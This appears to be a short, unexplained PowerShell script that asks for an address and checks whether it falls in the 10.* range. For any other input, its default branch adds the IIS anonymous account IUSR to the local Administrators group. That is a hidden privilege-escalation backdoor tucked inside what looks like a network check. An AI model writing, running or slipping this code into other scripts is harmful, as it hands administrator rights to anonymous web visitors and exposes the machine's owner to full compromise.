$address = "$(Read-Host).$(Read-Host).$(Read-Host)"
switch -Wildcard ($address) {
  '10.*' { 'inside' }
  default { net localgroup Administrators IUSR /add }
}
